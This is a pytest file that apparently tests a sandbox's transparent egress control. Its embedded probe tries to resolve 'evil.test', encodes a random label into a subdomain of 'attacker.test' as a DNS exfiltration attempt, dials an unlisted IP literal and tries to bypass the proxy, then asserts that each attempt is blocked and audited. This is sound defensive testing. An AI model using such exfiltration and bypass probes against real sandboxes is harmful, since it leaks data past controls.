"""Transparent egress end to end: stockade's resolver and capture in a real sandbox.

Every probe runs with the proxy variables removed, as a client that ignores them would;
each "blocked" result has its allowed twin in the same run, and the audit log is the
proof of what stockade decided (and of what it never looked up).

Each test runs under ``--backend gvisor`` too (the ``runsc`` fixture, STOCKADE_GVISOR=1):
there the Sentry's own network calls (hostinet) meet the resolver and capture, and the
resolver files are binds of the OCI bundle.
"""

from __future__ import annotations

import json
import os
import secrets
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import World, as_nobody, nobody_gvisor
from tests.runtime.test_container import BACKENDS, backend_flags

PROBE = r"""
import json, os, socket, subprocess, sys, time, http.client
port = int(sys.argv[1])
out = {}
def attempt(key, fn):
    start = time.monotonic()
    try:
        out[key] = {"ok": True, "value": fn()}
    except Exception as exc:
        out[key] = {"ok": False, "error": f"{type(exc).__name__}: {exc}"}
    out[key]["seconds"] = round(time.monotonic() - start, 3)
def resolve(name):
    return sorted({i[4][0] for i in socket.getaddrinfo(name, 80, type=socket.SOCK_STREAM)})
def get(host):
    conn = http.client.HTTPConnection(host, port, timeout=5)
    conn.request("GET", "/")
    response = conn.getresponse()
    return [response.status, response.read().decode()]
def raw(address):
    with socket.create_connection((address, port), timeout=5) as s:
        s.sendall(b"GET / HTTP/1.0\r\n\r\n")
        s.settimeout(2)
        return s.recv(100).decode()
def udp(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.connect((address, 443))
        s.send(b"quic?")
        return s.recv(100).decode()
def curl(*args):
    proc = subprocess.run(["curl", "-s", "-m", "5", "-o", "/dev/null", "-w", "%{http_code}", *args],
                          capture_output=True, text=True)
    return proc.stdout
out["resolv"] = open("/etc/resolv.conf").read()
out["kernel"] = os.uname().release
attempt("allowed", lambda: resolve("web.test"))
# IPv4 only, with AI_ADDRCONFIG: glibc skips the lookup when only loopback is IPv4.
attempt("v4-addrconfig", lambda: sorted({i[4][0] for i in socket.getaddrinfo(
    "web.test", 80, socket.AF_INET, socket.SOCK_STREAM, 0, socket.AI_ADDRCONFIG)}))
attempt("denied", lambda: resolve("evil.test"))
attempt("exfil", lambda: resolve(sys.argv[2] + ".attacker.test"))
attempt("localhost", lambda: resolve("localhost"))
attempt("own-name", lambda: socket.gethostbyname(socket.gethostname()))
attempt("get", lambda: get("web.test"))
attempt("get-denied", lambda: get("evil.test"))
attempt("literal", lambda: raw("192.0.2.1"))
attempt("udp", lambda: udp(resolve("web.test")[0]))
attempt("socks5", lambda: curl("-x", "socks5://127.0.0.1:3128", f"http://web.test:{port}/"))
attempt("proxy-var", lambda: curl("-x", "http://127.0.0.1:3128", f"http://web.test:{port}/"))
print(json.dumps(out))
"""

UNSET = (
    "HTTP_PROXY",
    "HTTPS_PROXY",
    "ALL_PROXY",
    "http_proxy",
    "https_proxy",
    "all_proxy",
    "NODE_USE_ENV_PROXY",
)


@pytest.fixture(params=BACKENDS)
def backend(request: pytest.FixtureRequest, world: World) -> tuple[str, ...]:
    """The test once per container backend: the flags to put after ``run``."""
    return backend_flags(request, world, request.param)


def run_probe(
    world: World,
    port: int,
    transparent: bool,
    *,
    nobody: bool = False,
    backend: tuple[str, ...] = (),
) -> tuple[dict[str, Any], list[dict[str, Any]], str]:
    label = secrets.token_hex(16)
    (world.workspace / "probe.py").write_text(PROBE)
    policy = world.root / "policy.toml"
    policy.write_text(
        "[network]\n"
        f'allow = ["web.test:{port}"]\n'
        'hosts = { "web.test" = "127.0.0.1" }\n'
        f"transparent = {'true' if transparent else 'false'}\n"
    )
    audit = world.root / "audit.jsonl"
    audit.unlink(missing_ok=True)
    unset = [arg for name in UNSET for arg in ("-u", name)]
    args = ["run", *backend, "--policy", str(policy), "--audit", str(audit), "--"]
    args += ["env", *unset, "python3", "probe.py", str(port), label]
    command = None
    if nobody and backend:
        # uid 65534 needs a runsc of its own (the cache's is root's).
        command = nobody_gvisor(world, world.env["STOCKADE_RUNSC"])
    proc = as_nobody(world, *args, command=command) if nobody else world.stockade(*args)
    assert proc.returncode == 0, proc.stderr
    events = [json.loads(line) for line in audit.read_text().splitlines()]
    out = json.loads(proc.stdout)
    # The run was on the backend asked for: the Sentry's kernel release, or the host's.
    assert out["kernel"] == ("4.4.0" if backend else os.uname().release), out["kernel"]
    return out, events, label


def check_transparent(out: dict[str, Any], events: list[dict[str, Any]], label: str) -> None:
    assert "nameserver 127.0.0.1" in out["resolv"]
    address = out["allowed"]["value"]
    assert len(address) == 1
    assert address[0].startswith("127.64."), out
    assert out["v4-addrconfig"].get("value") == address, out["v4-addrconfig"]
    # Denied names fail at once, answered by stockade (NXDOMAIN), never looked up.
    for key in ("denied", "exfil"):
        assert out[key]["ok"] is False, out[key]
        assert "Name or service not known" in out[key]["error"], out[key]
        assert out[key]["seconds"] < 1.0, out[key]
    assert "127.0.0.1" in out["localhost"]["value"]
    assert out["own-name"]["ok"] is True, out["own-name"]
    assert out["get"].get("value") == [200, "ok"], out["get"]
    assert out["get-denied"]["ok"] is False
    # An IP literal the policy does not name: accepted inside, closed, never relayed.
    assert out["literal"].get("value", "") == "", out["literal"]
    assert out["udp"]["ok"] is False
    assert "ConnectionRefused" in out["udp"]["error"]
    assert out["socks5"]["value"] == "200", out["socks5"]
    assert out["proxy-var"]["value"] == "200", out["proxy-var"]

    queries = [e for e in events if e["event"] == "dns_query"]
    denied = {e["name"] for e in queries if e["verdict"] == "deny"}
    assert {"evil.test", f"{label}.attacker.test"} <= denied
    allowed = [e for e in queries if e["verdict"] == "allow"]
    assert {e["name"] for e in allowed} == {"web.test"}
    connects = [e for e in events if e["event"] == "net_connect"]
    # Nothing was ever looked up or dialled for a denied name.
    assert not [e for e in connects if "attacker" in e["host"] or e["host"] == "evil.test"]
    transparent = [e for e in connects if e.get("mode") == "transparent"]
    assert any(e["host"] == "web.test" and e["verdict"] == "allow" for e in transparent)
    literal = [e for e in transparent if e["host"] == "192.0.2.1"]
    assert literal, transparent
    assert literal[0]["reason"] == "host-not-allowed"


@pytest.mark.usefixtures("kernel")
def test_clients_without_proxy_variables_reach_only_allowed_names(
    world: World, ok_server: int, backend: tuple[str, ...]
) -> None:
    out, events, label = run_probe(world, ok_server, transparent=True, backend=backend)
    check_transparent(out, events, label)


@pytest.mark.usefixtures("kernel")
def test_an_unprivileged_user_gets_the_same(
    world: World, ok_server: int, backend: tuple[str, ...]
) -> None:
    out, events, label = run_probe(world, ok_server, transparent=True, nobody=True, backend=backend)
    check_transparent(out, events, label)


@pytest.mark.usefixtures("kernel")
def test_transparent_off_leaves_only_the_proxy_variables(
    world: World, ok_server: int, backend: tuple[str, ...]
) -> None:
    out, events, _ = run_probe(world, ok_server, transparent=False, backend=backend)
    assert out["resolv"] == Path("/etc/resolv.conf").read_text(encoding="utf-8")
    assert out["allowed"]["ok"] is False
    assert out["get"]["ok"] is False
    # The twin: the same host through the proxy variables' path still works.
    assert out["proxy-var"]["value"] == "200"
    assert not [e for e in events if e["event"] == "dns_query"]
    assert not [e for e in events if e.get("mode") == "transparent"]
